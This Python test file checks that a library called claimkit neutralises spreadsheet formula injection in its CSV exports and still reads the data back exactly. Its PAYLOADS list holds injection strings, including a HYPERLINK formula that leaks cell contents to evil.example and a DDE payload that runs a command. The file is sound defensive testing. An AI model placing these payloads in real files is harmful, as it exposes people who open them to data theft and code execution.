"""CSV exports are safe to open in a spreadsheet, and claimkit reads them back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import claimkit
from claimkit import Actor, ActorKind, Claim, ClaimKind, Corpus, Provenance, Span
from claimkit.formats.csv import COLUMNS
from claimkit.testing import strategies

SEED = sorted((Path(__file__).resolve().parent.parent / "seeds").glob("*.txt"))[0]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet runs as a formula (OWASP's list)."""


def _rows(data: bytes) -> list[dict[str, str]]:
    # generated documents can be longer than the csv module's default 128 KiB field limit
    old_limit = csv.field_size_limit(1 << 26)
    try:
        reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
        return list(reader)
    finally:
        csv.field_size_limit(old_limit)


def _cells(data: bytes) -> list[str]:
    return [cell for row in _rows(data) for cell in row.values()]


def _claim(text: str, **changes: object) -> Claim:
    """A denial from the seed article with some fields replaced."""
    start = text.index("denies")
    claim = Claim(
        id="claim:1",
        kind=ClaimKind.DENIAL,
        claimant=Actor(id="state:kp", name="North Korea", kind=ActorKind.STATE, country="KP"),
        proposition="providing Russia with weapons",
        cue="denies",
        provenance=Provenance(document_id=SEED.stem, span=Span(start=start, end=start + 6)),
    )
    return attrs.evolve(claim, **changes)


PAYLOADS = [
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "'already quoted",
    "''",
    "'",
    "-",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["proposition", "quote", "cue", "id"])
def test_formula_cells_are_neutralised_and_restored(field: str, payload: str) -> None:
    text = SEED.read_text(encoding="utf-8")
    claim = _claim(text, **{field: payload})
    data = claimkit.dumps([claim], "csv")
    column = field
    cell = _rows(data)[0][column]
    assert cell == "'" + payload
    assert not cell.startswith(DANGEROUS)
    assert claimkit.loads(data, "csv").claims == (claim,)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_actor_cells_are_neutralised(payload: str) -> None:
    text = SEED.read_text(encoding="utf-8")
    state = Actor(id="state:kp", name="North Korea", kind=ActorKind.STATE, country="KP")
    official = Actor(
        id=payload,
        name=payload,
        role=payload,
        kind=ActorKind.PERSON,
        aliases=(payload,),
        affiliation=attrs.evolve(state, name=payload),
    )
    claim = _claim(text, claimant=official, target=state, channel=official)
    data = claimkit.dumps([claim], "csv")
    for cell in _cells(data):
        assert not cell.startswith(DANGEROUS), cell
    assert claimkit.loads(data, "csv").claims == (claim,)


def test_document_ids_and_json_cells_are_safe() -> None:
    text = SEED.read_text(encoding="utf-8")
    claim = _claim(
        text,
        provenance=Provenance(document_id="=1+1", span=Span(start=0, end=5)),
        responds_to=("=A1", "+B2"),
    )
    data = claimkit.dumps([claim], "csv")
    row = _rows(data)[0]
    assert row["document_id"] == "'=1+1"
    assert row["responds_to"].startswith("[")
    assert claimkit.loads(data, "csv").claims == (claim,)


def test_ordinary_cells_are_left_alone() -> None:
    text = SEED.read_text(encoding="utf-8")
    claim = _claim(text)
    row = _rows(claimkit.dumps([claim], "csv"))[0]
    assert row["proposition"] == "providing Russia with weapons"
    assert row["claimant_name"] == "North Korea"
    assert row["span"] == f"{claim.provenance.span.start}:{claim.provenance.span.end}"


def test_the_loader_removes_exactly_one_quote() -> None:
    header = ",".join(COLUMNS)
    text = SEED.read_text(encoding="utf-8")
    claim = _claim(text, proposition="'quoted'")
    data = claimkit.dumps([claim], "csv")
    assert _rows(data)[0]["proposition"] == "''quoted'"
    assert data.decode().startswith(header)
    assert claimkit.loads(data, "csv").claims[0].proposition == "'quoted'"


@given(st.lists(strategies.hostile_text(max_size=40), min_size=1, max_size=6))
def test_any_text_round_trips_and_no_cell_can_run(texts: list[str]) -> None:
    text = SEED.read_text(encoding="utf-8")
    claims = [
        _claim(
            text,
            id=f"claim:{index}:{value}" if value.strip() else f"claim:{index}",
            proposition=value,
            quote=value or None,
            cue=value,
        )
        for index, value in enumerate(texts)
    ]
    data = claimkit.dumps(claims, "csv")
    for cell in _cells(data):
        assert not cell.startswith(DANGEROUS), repr(cell)
    assert claimkit.loads(data, "csv").claims == tuple(claims)


@given(strategies.corpora())
def test_generated_corpora_are_spreadsheet_safe(corpus: Corpus) -> None:
    data = claimkit.dumps(corpus, "csv")
    for cell in _cells(data):
        assert not cell.startswith(DANGEROUS), repr(cell)
    assert claimkit.loads(data, "csv") == Corpus.build((), corpus.claims)


def test_files_round_trip_through_disk(tmp_path: Path) -> None:
    text = SEED.read_text(encoding="utf-8")
    claims = [_claim(text, id=f"c{i}", proposition=payload) for i, payload in enumerate(PAYLOADS)]
    path = claimkit.dump(claims, tmp_path / "claims.csv")
    assert claimkit.load(path).claims == tuple(claims)


@pytest.mark.parametrize("tail", [b"x" * (24 << 20), (b"y" * 4000 + b"\n") * 6000])
def test_a_quote_that_never_closes_costs_memory_bounded_by_the_field_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tail: bytes
) -> None:
    # the csv module was fed whole lines: 24 MB without a line break were read at once
    # however small the field limit; the error named the line after the field's first
    import tracemalloc

    from claimkit import LimitExceededError, limits

    monkeypatch.setattr(limits, "MAX_LINE_BYTES", 1 << 20)
    good = claimkit.dumps(claimkit.load(SEED), "csv").splitlines(keepends=True)
    path = tmp_path / "open.csv"
    path.write_bytes(b"".join(good[:2]) + b'"the quote opens here,' + tail)
    tracemalloc.start()
    try:
        with pytest.raises(LimitExceededError, match="MAX_LINE_BYTES") as caught:
            list(claimkit.iter_load(path))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * limits.MAX_LINE_BYTES
    assert (caught.value.source, caught.value.line, caught.value.record) == (str(path), 3, 1)
